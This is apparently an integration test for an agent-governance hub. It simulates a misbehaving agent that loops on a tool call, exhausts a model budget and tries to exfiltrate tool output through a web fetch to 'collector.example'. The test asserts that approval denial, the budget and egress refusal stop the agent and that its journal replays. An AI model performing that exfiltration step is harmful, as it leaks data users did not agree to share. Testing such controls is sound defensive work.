/**
 * An agent of others that loops, spends and sends out what it read: a ceiling, a budget and the closed way out stop it, and its
 * record replays to the same events.
 */
import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/client";
import { StdioClientTransport } from "@modelcontextprotocol/client/stdio";
import OpenAI from "openai";
import { test } from "vitest";
import { programFlags } from "../../bin/program-flags.mjs";
import { json, modelName, serveModel } from "../kit/model-server.ts";
import { comparable, playedServer, recordedAnswers, recordedTools } from "../kit/replay.ts";
import { type Json, programRoot, type RunningHub, startHub } from "./kit/hub-process.ts";
import { createRoom, type Room } from "./kit/room.ts";
import { until } from "./kit/until.ts";

const everything = join(programRoot, "node_modules/@modelcontextprotocol/server-everything/dist/index.js");

interface Place {
  readonly hub: RunningHub;
  readonly server: string;
  readonly model: string;
  readonly token: string;
}

/** The same script each time: it knows nothing of ARW beyond the two addresses that it was given. */
async function misbehave(
  { hub, server, model, token }: Place,
  isWatched: () => Promise<void>,
): Promise<readonly string[]> {
  const said: string[] = [];
  const client = new Client({ name: "foreign", version: "1.0.0" }, { versionNegotiation: { mode: "legacy" } });
  const words = ["mcp", "wrap", "--url", hub.url, "--name", "sums", "--", process.execPath, server];
  await client.connect(
    new StdioClientTransport({
      command: process.execPath,
      args: [...programFlags, join(programRoot, "src/app/cli.ts"), ...words],
      env: { PATH: process.env["PATH"] ?? "", ARW_ADMIN_TOKEN: token },
      stderr: "ignore",
    }),
  );
  await client.listTools();
  await isWatched();
  // It loops.
  for (let turn = 0; turn < 6; turn += 1)
    said.push(JSON.stringify(await client.callTool({ name: "get-sum", arguments: { a: 20, b: 22 } })));
  // It spends.
  const models = new OpenAI({ apiKey: token, baseURL: `${hub.url}/v1`, maxRetries: 0 });
  for (let turn = 0; turn < 4; turn += 1) {
    const ask = models.chat.completions.create({
      model,
      messages: [{ role: "user", content: "go on" }],
      max_tokens: 10,
    });
    said.push(
      await ask.then((answer) => String(answer.choices[0]?.message.content)).catch((error: unknown) => String(error)),
    );
  }
  // It sends out what it read.
  const sent = await hub.send(
    "POST /web/fetch",
    { url: `https://collector.example/?sum=${encodeURIComponent(said[0] ?? "")}` },
    { authorization: `Bearer ${token}` },
  );
  said.push(`${sent.status} ${sent.body.code}`);
  await client.close();
  return said;
}

/** What its person did before: named the model server, gave it a token, and set a ceiling. */
async function prepare(room: Room, { hub, modelUrl }: { readonly hub: RunningHub; readonly modelUrl: string }) {
  const at = new URL(modelUrl).host.replace("127.0.0.1", "localhost");
  const added = await hub.send(`PUT /models/servers/${at}`, { url: modelUrl.replace("127.0.0.1", "localhost") });
  assert.equal(added.status, 200, JSON.stringify(added.body));
  const keys = ["mcp:*", "models:*", "web:*", "access:whoami"];
  const { token } = await hub.post("/access/tokens", { name: "foreign", role: "agent", key: keys });
  await hub.post("/budgets/allow", { allowance: ["2 calls/day", "models.*", "for", "agent:foreign"] });
  return { hub, server: join(room.path, "server", "server.mjs"), model: `${at}/${modelName}`, token };
}

/** Answers no to whatever is asked. */
async function refuse(hub: RunningHub, signal: AbortSignal): Promise<void> {
  while (!signal.aborted) {
    const { items } = await hub.get("/state/approvals?status=waiting");
    for (const { approvalId } of items) await hub.post(`/approvals/${approvalId}/decide`, { decision: "deny" });
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

test("it is stopped by ceiling, budget and egress, and its record replays", async () => {
  await using room = await createRoom();
  await room.folder("server", { "server.mjs": `await import(${JSON.stringify(everything)});` });
  let answers = 0;
  await using modelServer = await serveModel({
    "/v1/chat/completions": (response) =>
      json(response, {
        choices: [{ message: { role: "assistant", content: `once more ${(answers += 1)}` }, finish_reason: "stop" }],
        usage: { prompt_tokens: 3, completion_tokens: 2, total_tokens: 5 },
      }),
  });
  const run = async (stateDir: string) => {
    await using hub = await startHub({ stateDir });
    const place = await prepare(room, { hub, modelUrl: modelServer.url });
    const stop = new AbortController();
    const person = refuse(hub, stop.signal);
    const said = await misbehave(place, () => hub.post("/mcp/tools/sums/get-sum/allow", {})).finally(() =>
      stop.abort(),
    );
    await person;
    const told = await until("the end of its session", async () => {
      const { events } = await hub.get("/events/journal?limit=1000");
      const sorted = (events as readonly Json[]).toSorted((one, other) => one.seq - other.seq);
      // Calls of models are runs of their own, which end before.
      const hasEnded =
        sorted.at(-1)?.kind === "agents.run.finished" && sorted.some(({ kind }) => kind === "mcp.session.closed");
      return hasEnded ? sorted : undefined;
    });
    // Where a hub stands, and at which address, is no part of what was done there.
    return { said, events: told.slice(told.findIndex(({ kind }) => kind === "service.opened") + 1) };
  };
  const first = await run(join(room.path, "first"));
  const [sums, models, sent] = [first.said.slice(0, 6), first.said.slice(6, 10), first.said[10]];
  assert.deepEqual(
    sums.map((each) => /is 42|Not approved/.exec(each)?.[0]),
    ["is 42", "is 42", "is 42", "Not approved", "Not approved", "Not approved"],
  );
  assert.deepEqual(
    models.map((each) => /once more \d|budget is used up/.exec(each)?.[0]),
    ["once more 1", "once more 2", "budget is used up", "budget is used up"],
  );
  assert.equal(sent, "403 arw.denied");
  assert.equal(
    first.events.filter(({ kind }) => kind === "approvals.requested").length,
    1,
    "one question for the loop",
  );
  assert.ok(JSON.stringify(first.events.filter(({ kind }) => kind === "egress.refused")).includes("collector.example"));

  const played = playedServer(recordedTools(first.events), recordedAnswers(first.events));
  await writeFile(join(room.path, "server", "server.mjs"), played);
  answers = 0;
  const second = await run(join(room.path, "second"));
  assert.deepEqual(second.said, first.said);
  assert.deepEqual(comparable(second.events), comparable(first.events));
});
